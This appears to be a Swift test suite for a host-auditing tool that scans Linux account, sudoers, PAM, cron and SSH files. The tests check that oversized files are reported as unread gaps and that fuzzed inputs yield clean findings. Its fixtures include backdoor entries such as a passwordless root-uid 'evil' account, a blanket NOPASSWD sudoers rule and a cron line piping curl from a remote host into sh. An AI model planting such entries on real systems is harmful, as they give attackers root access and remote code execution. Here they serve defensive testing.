import Foundation
import HostState
import NoroshiModel
import Testing

@Suite struct `Hostile account files` {
    @Test(arguments: [
        ("/etc/passwd", "evil::0:0::/:/bin/sh"), ("/etc/shadow", "evil::1::::::"), ("/etc/group", "evil:x:0:"),
        ("/etc/sudoers", "evil ALL=NOPASSWD: ALL"), ("/etc/cron.d/x", "* * * * * root /tmp/x"),
        ("/etc/pam.d/x", "auth required pam_permit.so"), ("/etc/nsswitch.conf", "passwd: files ldap"),
        ("/etc/cron.daily/x", "curl http://192.0.2.1/ | sh"), ("/root/.ssh/authorized_keys", "x"),
        ("/etc/ssh/sshd_config", "AuthorizedKeysFile /x"), ("/etc/shadow.old", "evil:$1$a$b:1::::::"),
    ])
    func `with more lines than are read are a gap`(_ file: String, _ last: String) async throws {
        let home = "root:x:0:0:root:/root:/bin/bash\n"
        let tree = try AccountTree(["/etc/passwd": home])
        let filling = String(repeating: "#\n", count: 200_001)
        try tree.write(file, (file == "/etc/passwd" ? home : "") + filling + last + "\n")
        let (survey, seen) = try await tree.look()
        let gaps = seen.compactMap {
            if case .unseen(let what, let reason) = $0.fact { "\(what): \(reason)" } else { nil }
        }
        #expect(gaps.contains("\(file): more than 200000 lines; the rest was not read"), "\(gaps)")
        #expect(!survey.mistakes.contains { $0.place.file == file })
    }

    /// A small generator, so that a failure can be had again.
    private struct Dice: RandomNumberGenerator {
        var state: UInt64
        mutating func next() -> UInt64 {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return state ^ state >> 29
        }
    }

    private static let seeds: [String: String] = [
        "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\na:x:1000:1000::/home/a:/bin/sh\n+::::::\n",
        "/etc/shadow": "root:$6$a$b:20000:0:99999:7:::\na:$1$dKZ.E0iY$o3e2Vq/CimCOqoLdMWGd30:1::::::\n",
        "/etc/group": "root:x:0:\nsudo:x:27:a,b\n", "/etc/gshadow": "root:*::\nsudo:!:a:b\n",
        "/etc/sudoers":
            """
        Defaults:a !b, c=\"d\"
        User_Alias A = a, !b : B = c
        A ALL=(x:y) NOPASSWD: /bin/ls \\\n a\\,b, !sudoedit /x
        @include /etc/more

        """,
        "/etc/pam.d/x": "auth [success=1 default=ignore] pam_unix.so a\n@include y\nauth substack z\n",
        "/etc/cron.d/x": "*/5 * * * * root /bin/true | sh\n@reboot a b\n", "/etc/anacrontab": "1 5 a b\n",
        "/etc/nsswitch.conf": "passwd: files [NOTFOUND=return] x\n", "/etc/login.defs": "UID_MIN 1000\n",
        "/root/.ssh/authorized_keys": "a=\"b,c\",d ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA x\n",
        "/etc/ssh/sshd_config": "AuthorizedKeysFile %h/.ssh/authorized_keys %%\nMatch all\nInclude x\n",
        "/var/spool/cron/atjobs/a0000101c89261":
            "#!/bin/sh\n# atrun uid=0 gid=0\ncd / || {\n}\n${SHELL:-/bin/sh} << 'x'\na\nx\n",
        "/var/log/wtmp": String(repeating: "\u{7}\0\0\0a", count: 200),
        "/var/log/lastlog": String(repeating: "a\0", count: 300),
    ]

    private static func mutated(_ text: String, _ dice: inout Dice) -> Data {
        var bytes = Array(text.utf8)
        let signs = Array("\0\n\r\t :,=!()[]{}\"'\\#%@+-*$/.^0".utf8) + [0x80, 0xFF, 0x1B]
        for _ in 0..<Int.random(in: 1...12, using: &dice) where !bytes.isEmpty {
            let place = Int.random(in: 0..<bytes.count, using: &dice)
            switch Int.random(in: 0..<5, using: &dice) {
            case 0: bytes[place] = signs.randomElement(using: &dice)!
            case 1: bytes.insert(signs.randomElement(using: &dice)!, at: place)
            case 2: bytes.remove(at: place)
            case 3: bytes.insert(contentsOf: bytes[place...].prefix(20), at: place)
            default: bytes = Array(bytes[..<place])
            }
        }
        return Data(bytes)
    }

    @Test(arguments: 0..<60) func `are read to their end, whatever is in them`(_ seed: Int) async throws {
        var dice = Dice(state: UInt64(seed) &+ 77)
        let tree = try AccountTree()
        for (path, text) in Self.seeds.sorted(by: { $0.key < $1.key }) {
            try tree.write(path, Self.mutated(text, &dice))
        }
        let (survey, seen) = try await tree.look()
        let findings = try await tree.findings()
        // Whatever it is, it is a value that comes back from its JSON, with evidence that no terminal obeys.
        #expect(try JSONDecoder().decode([Observation].self, from: JSONEncoder().encode(seen)) == seen)
        #expect(survey.accounts.allSatisfy { $0.place.file == "/etc/passwd" })
        #expect(Set(findings.map(\.id)).count == findings.count)
        let texts = findings.flatMap {
            $0.evidence.flatMap { [$0.locator, $0.excerpt] } + Array($0.title.arguments.values)
        }
        #expect(texts.allSatisfy { $0.unicodeScalars.allSatisfy { $0.value >= 0x20 && $0.value != 0x7F } })
    }
}
